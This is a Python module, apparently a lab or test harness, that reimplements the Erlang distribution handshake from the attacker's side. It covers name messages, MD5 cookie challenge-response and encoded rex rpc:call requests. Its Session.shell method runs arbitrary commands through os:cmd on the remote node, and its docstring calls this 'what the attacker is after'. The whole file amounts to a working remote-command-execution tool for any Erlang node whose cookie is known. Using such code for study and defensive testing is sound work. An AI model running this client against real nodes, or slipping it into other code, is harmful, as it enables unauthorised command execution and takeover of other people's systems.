# SPDX-License-Identifier: BSD-2-Clause
"""The distribution as an attacker speaks it: the handshake of OTP 23 and later, and a call of rex.

From erts/doc/src/erl_dist_protocol.xml and lib/kernel/src/dist_util.erl; without Erlang, so that it
can stop, repeat and spoil each step.
"""
import hashlib
import os
import struct

# What OTP 25 and 26 demand of a node, and nothing that would make replies harder to read.
FLAGS = (0x4 | 0x10 | 0x80 | 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x20000 | 0x40000 |
         0x1000000 | 0x2000000 | 0x400000000)
CREATION = 0x11223344
NAME = "intruder@client.lab"


class Refused(Exception):
    """The node answered, and did not let us in."""


class Busy(Refused):
    """The node still has, or has just lost, a connection from that name."""


def exactly(connection, size):
    """That many bytes, or Refused when the other side hangs up before."""
    received = b""
    while len(received) < size:
        try:
            part = connection.recv(size - len(received))
        except ConnectionResetError:
            part = b""
        if not part:
            raise Refused("hung up")
        received += part
    return received


def message(body):
    return struct.pack(">H", len(body)) + body


def read_message(connection):
    return exactly(connection, struct.unpack(">H", exactly(connection, 2))[0])


def new_name(name=NAME, flags=FLAGS):
    """The first message of version 6."""
    encoded = name.encode()
    return message(struct.pack(">cQIH", b"N", flags, CREATION, len(encoded)) + encoded)


def old_name(name=NAME, version=5):
    """The first message of version 5."""
    return message(struct.pack(">cHI", b"n", version, FLAGS & 0xFFFFFFFF) + name.encode())


def digest(cookie, challenge):
    return hashlib.md5(f"{cookie}{challenge}".encode()).digest()


def challenged(connection, name=NAME):
    """Says a name; the number that the node wants answered, which proves that it took the name."""
    connection.sendall(new_name(name))
    status = read_message(connection)
    if not status.startswith(b"sok"):
        raise Busy(status.decode(errors="replace"))
    challenge = read_message(connection)
    return struct.unpack(">I", challenge[9:13])[0]


def join(connection, cookie, name=NAME):
    """The whole handshake; Refused when the cookie is another."""
    wanted = challenged(connection, name)
    ours = struct.unpack(">I", os.urandom(4))[0]
    connection.sendall(message(b"r" + struct.pack(">I", ours) + digest(cookie, wanted)))
    if read_message(connection) != b"a" + digest(cookie, ours):
        raise Refused("another cookie")


def _atom(name):
    return struct.pack(">BB", 119, len(name)) + name.encode()


def _tuple(*terms):
    return struct.pack(">BB", 104, len(terms)) + b"".join(terms)


def _list(*terms):
    return (struct.pack(">BI", 108, len(terms)) + b"".join(terms) if terms else b"") + b"\x6a"


class Session:
    """A connection that a node has taken for another node."""

    def __init__(self, connection, cookie, name=NAME):
        self.connection = connection
        join(connection, cookie, name)
        own = _atom(name)
        self._pid = b"\x58" + own + struct.pack(">III", 1, 0, CREATION)
        self._reference = struct.pack(">BH", 90, 1) + own + struct.pack(">II", CREATION, 1)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.connection.close()

    def call(self, module, function, *arguments):
        """rpc:call/4 with encoded arguments, as the server `rex` takes it; the reply's bytes."""
        request = _tuple(_atom("call"), _atom(module), _atom(function), _list(*arguments),
                         _atom("user"))
        sent = _tuple(_atom("$gen_call"), _tuple(self._pid, self._reference), request)
        control = _tuple(b"\x61\x06", self._pid, _atom(""), _atom("rex"))  # REG_SEND
        packet = b"p\x83" + control + b"\x83" + sent
        self.connection.sendall(struct.pack(">I", len(packet)) + packet)
        while True:
            reply = exactly(self.connection, struct.unpack(">I", exactly(self.connection, 4))[0])
            if reply and self._reference in reply:  # else a tick, or what net_kernel says
                return reply.partition(self._reference)[2]

    def shell(self, command):
        """os:cmd/1: what the attacker is after."""
        return self.call("os", "cmd", struct.pack(">BH", 107, len(command)) + command.encode())

    def number(self, module, function, *atoms):
        """A call whose result is an integer that is small enough."""
        reply = self.call(module, function, *map(_atom, atoms))
        if reply[0] == 97:
            return reply[1]
        if reply[0] == 98:
            return struct.unpack(">i", reply[1:5])[0]
        raise Refused(f"no integer: {reply!r}")
